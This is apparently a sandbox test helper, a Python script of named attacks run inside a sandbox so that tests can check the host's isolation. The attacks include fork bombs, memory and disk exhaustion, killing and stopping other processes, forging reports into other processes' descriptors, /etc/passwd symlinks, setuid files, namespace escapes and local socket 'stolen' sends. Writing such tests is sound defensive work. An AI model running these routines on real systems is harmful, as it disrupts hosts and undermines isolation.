"""Attacks from inside the sandbox. Each prints what it achieved; the host is what tests look at.

Run as `python hostile.py ATTACK [ARGUMENT]...` in the sandbox, never imported.
"""

import contextlib
import ctypes
import os
import pathlib
import signal
import socket
import subprocess
import sys
import time


def write(path):
    for attempt in (
        lambda: pathlib.Path(path).write_text(""),
        lambda: os.mkdir(path),
        lambda: os.symlink("/etc/passwd", path),
        lambda: os.rename("/proc/self/cwd/mine", path),
        lambda: os.link("mine", path),
        lambda: os.mknod(path),
    ):
        with contextlib.suppress(OSError):
            attempt()


def change(path):
    for attempt in (
        lambda: os.truncate(path, 0),
        lambda: os.chmod(path, 0o777),
        lambda: os.utime(path, (1, 1)),
        lambda: os.unlink(path),
        lambda: os.rename(path, path + ".moved"),
        lambda: os.setxattr(path, "user.rung", b"x"),
        lambda: pathlib.Path(path).write_text("changed"),
        lambda: os.chown(path, os.getuid(), os.getgid()),
    ):
        with contextlib.suppress(OSError):
            attempt()


def read(path):
    with contextlib.suppress(OSError):
        print("READ", pathlib.Path(path).read_text())
    with contextlib.suppress(OSError):
        os.symlink(path, "link")
        print("READ", pathlib.Path("link").read_text())


def listing(path):
    with contextlib.suppress(OSError):
        print("LISTED", os.listdir(path))


def tcp(port):
    with socket.create_connection(("127.0.0.1", int(port)), timeout=2) as connection:
        connection.sendall(b"stolen")


def udp(port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
        connection.sendto(b"stolen", ("127.0.0.1", int(port)))


def unix(path):
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect(path.replace("@", "\0"))
        connection.sendall(b"stolen")


def unix_datagram(path):
    pair = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    pair[0].sendto(b"stolen", path)


def kill(pid):
    for number in (signal.SIGTERM, signal.SIGKILL):
        with contextlib.suppress(OSError):
            os.kill(int(pid), number)
    with contextlib.suppress(OSError):
        os.kill(-1, signal.SIGKILL)


def forks():
    made = 0
    with contextlib.suppress(OSError):
        while made < 500:
            if os.fork() == 0:
                time.sleep(60)
                os._exit(0)
            made += 1
    print("FORKED", made, flush=True)


def fork_bomb(mark):
    while True:
        with contextlib.suppress(OSError):
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, *sys.argv, mark])


def memory():
    hoard = []
    while len(hoard) < 200:
        hoard.append(bytearray(os.urandom(1024) * 10240))
    print("HOARDED", len(hoard))


def shared_memory():
    import mmap

    hoard = []
    for _ in range(64):
        block = mmap.mmap(-1, 32 * 1024 * 1024)
        block.write(b"x" * len(block))
        hoard.append(block)
    print("HOARDED", len(hoard), flush=True)
    time.sleep(30)


def memory_files():
    """Memory that belongs to no process: files that only descriptors hold."""
    for _ in range(8):
        file = os.memfd_create("hoard")
        os.write(file, b"x" * (8 * 1024 * 1024 - 1))
        print("HOARDED", flush=True)


def message_queue(identity):
    """Send to a System V queue of the host by its number, which is small and easy to guess."""
    libc = ctypes.CDLL(None, use_errno=True)
    message = ctypes.create_string_buffer((1).to_bytes(8, sys.byteorder) + b"hello")
    libc.msgsnd(int(identity), message, 5, 0o4000)


def huge_file():
    with open("huge", "wb") as file:
        for _ in range(300):
            file.write(b"x" * 1024 * 1024)


def daemon(mark):
    """A grandchild in a session of its own, that keeps the output open and outlives its parents."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", mark])
        os._exit(0)
    time.sleep(0.1)


def hang(mark):
    daemon(mark)
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    while True:
        time.sleep(1)


def flood():
    block = b"flood " * 20000
    with contextlib.suppress(OSError):
        for _ in range(100 * 1024 * 1024 // len(block)):
            os.write(1, block)


def stop_parent():
    with contextlib.suppress(OSError):
        os.kill(os.getppid(), signal.SIGSTOP)
    time.sleep(60)


def stop_parent_and_hoard():
    for number in (signal.SIGSTOP, signal.SIGKILL, signal.SIGINT):
        with contextlib.suppress(OSError):
            os.kill(os.getppid(), number)
    shared_memory()


def forge_report():
    """Write a report of its own to every descriptor of every process that it can see."""
    forged = b'{"exit_status": 0, "killed": "", "seconds": 0.0}\n'
    for pid in {1, os.getppid(), *range(os.getpid() - 20, os.getpid())}:
        for number in range(2, 8):
            with contextlib.suppress(OSError):
                pathlib.Path(f"/proc/{pid}/fd/{number}").write_bytes(forged)
    sys.exit(9)


def namespaces():
    libc = ctypes.CDLL(None, use_errno=True)
    for flag in (0x10000000, 0x00020000, 0x40000000, 0x20000000):
        if libc.unshare(flag) == 0:
            print("UNSHARED", hex(flag))
    if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0:
        print("MOUNTED")


def calls():
    """System calls that must not even be tried: 0 would be success."""
    libc = ctypes.CDLL(None, use_errno=True)
    numbers = {
        **{"ptrace": 101, "bpf": 321, "io_uring": 425, "keyctl": 250, "perf": 298},
        **{"userfaultfd": 323, "syslog": 103, "fanotify": 300, "open_tree": 428, "modify_ldt": 154},
    }
    for name, number in numbers.items():
        ctypes.set_errno(0)
        libc.syscall(number, 0, 0, 0, 0, 0)
        print(name, ctypes.get_errno())


def identity():
    print("UID", os.getuid(), os.geteuid(), os.getgroups())
    for line in pathlib.Path("/proc/self/status").read_text().splitlines():
        if line.startswith(("Cap", "NoNewPrivs")):
            print(line.split()[0], line.split()[1])


def environment():
    print("ENV", sorted(os.environ))


def other_limits(pid):
    import resource

    with contextlib.suppress(OSError):
        resource.prlimit(int(pid), resource.RLIMIT_NOFILE, (3, 3))
        print("LIMITED")
    with contextlib.suppress(OSError):
        os.setpriority(os.PRIO_PROCESS, int(pid), 19)
        print("RENICED")


def families():
    """Kinds of socket that can be made at all: vsock, Bluetooth and others leave any namespace."""
    for number in range(64):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
            with contextlib.suppress(OSError), socket.socket(number, kind):
                print("SOCKET", number, int(kind))
    for protocol in range(1, 32):
        with contextlib.suppress(OSError), socket.socket(socket.AF_NETLINK, 3, protocol):
            print("SOCKET netlink", protocol)


def system_v():
    """Memory in segments that no process has attached."""
    libc = ctypes.CDLL(None, use_errno=True)
    for _ in range(64):
        if libc.shmget(0, ctypes.c_size_t(8 * 1024 * 1024), 0o1600) >= 0:
            print("SEGMENT")


def unmapped_memory():
    """Shared pages that stay in memory while no process maps them."""
    import mmap

    while True:
        block = mmap.mmap(-1, 8 * 1024 * 1024)
        block.write(b"x" * len(block))
        block.madvise(mmap.MADV_DONTNEED)
        globals().setdefault("hoard", []).append(block)
        time.sleep(0.01)


def signal_by_descriptor(pid):
    """Have a pipe that becomes readable send SIGKILL to its owner, which is somebody else."""
    import fcntl

    reading, writing = os.pipe()
    with contextlib.suppress(OSError):
        fcntl.fcntl(reading, fcntl.F_SETSIG, signal.SIGKILL)
    with contextlib.suppress(OSError):
        fcntl.fcntl(reading, fcntl.F_SETOWN, int(pid))
    with contextlib.suppress(OSError):
        fcntl.ioctl(reading, 0x8901, int(pid).to_bytes(4, sys.byteorder))
    fcntl.fcntl(reading, fcntl.F_SETFL, os.O_ASYNC)
    os.write(writing, b"x")
    time.sleep(0.1)


def renice_all():
    """Without a PID: everything that has the same user."""
    for which in (os.PRIO_USER, os.PRIO_PGRP):
        with contextlib.suppress(OSError):
            os.setpriority(which, 0, 19)


def watch(path):
    """Learn which files others use."""
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.inotify_add_watch(libc.inotify_init(), path.encode(), 0xFFF) >= 0:
        print("WATCHED inotify")
    if libc.fanotify_init(0x200, 0) >= 0:
        print("WATCHED fanotify")


def attribute(path):
    with contextlib.suppress(OSError):
        print("READ", os.getxattr(path, "user.rung"), os.listxattr(path))


def hard_link(path):
    """A second name, in the writable folder, for a file that may only be read."""
    libc = ctypes.CDLL(None, use_errno=True)
    with contextlib.suppress(OSError):
        os.link(path, "second-name")
    with contextlib.suppress(OSError):
        handle = os.open(path, os.O_RDONLY)
        libc.linkat(handle, b"", -100, b"third-name", 0x1000)
        libc.linkat(-100, f"/proc/self/fd/{handle}".encode(), -100, b"fourth-name", 0x400)


def many_files():
    for number in range(10**9):
        os.close(os.open(f"{os.environ['TMPDIR']}/{number}", os.O_CREAT, 0))


def stop_all():
    """Stopped processes take no part in anything, but a signal to end."""
    for _ in range(5):
        if os.fork() == 0:
            os.kill(os.getpid(), signal.SIGSTOP)
    os.kill(os.getpid(), signal.SIGSTOP)


def spin():
    while True:
        pass


def wait_for_nobody():
    fifo = pathlib.Path(os.environ["TMPDIR"], "nobody")
    os.mkfifo(fifo)
    fifo.read_bytes()


def vfork_bomb():
    """Parents that wait in the kernel for children that never let them go on."""
    while True:
        with contextlib.suppress(OSError):
            subprocess.Popen([sys.executable, *sys.argv])


def flood_on():
    while True:
        with contextlib.suppress(OSError):
            os.write(1, b"flood " * 20000)


def write_through():
    block = os.urandom(1024 * 1024)
    while True:
        with contextlib.suppress(OSError), open("written", "wb", buffering=0) as file:
            for _ in range(7):
                file.write(block)
            os.fsync(file)


def claimed_names():
    """The names that a remover of deep folders might want for itself."""
    for first in range(40):
        for second in range(8):
            with contextlib.suppress(OSError):
                os.makedirs(f".rung-{first}-{second}/a/b")


def odd_entries():
    """What no reader should open, and what no copy should follow."""
    os.mkfifo("fifo")
    os.symlink("/etc/passwd", "out")
    os.symlink("loop", "loop")
    with socket.socket(socket.AF_UNIX) as listener, contextlib.suppress(OSError):
        listener.bind("socket")
    with open("sparse", "wb") as file:
        file.truncate(8 * 1024 * 1024)
    os.chmod(os.open("setuid", os.O_CREAT), 0o6777)


def deep_folders():
    for _ in range(1200):  # deeper than Python recurses, longer than PATH_MAX
        os.mkdir("deep")
        os.chdir("deep")
    os.chmod(".", 0)


def deep_folders_and_hang():
    os.chdir(os.environ["TMPDIR"])
    deep_folders()
    spin()


def locked_folder():
    os.makedirs("locked/inner")
    open("locked/inner/file", "w").close()
    os.chmod("locked/inner", 0)
    os.chmod("locked", 0)


def ordinary():
    """What honest code does: subprocesses, threads, an event loop, temporary files."""
    import asyncio
    import tempfile
    import threading

    threading.Thread(target=lambda: None).start()
    asyncio.run(asyncio.sleep(0))
    with tempfile.NamedTemporaryFile() as file:
        file.write(b"x")
    child = subprocess.Popen([sys.executable, "-c", "print('child')"])
    child.wait()
    sleeper = subprocess.Popen(["sleep", "60"])
    sleeper.kill()
    print("KILLED", sleeper.wait())


if __name__ == "__main__":
    open("mine", "w").close()
    attack = globals()[sys.argv[1]]
    attack(*sys.argv[2 : 2 + attack.__code__.co_argcount])
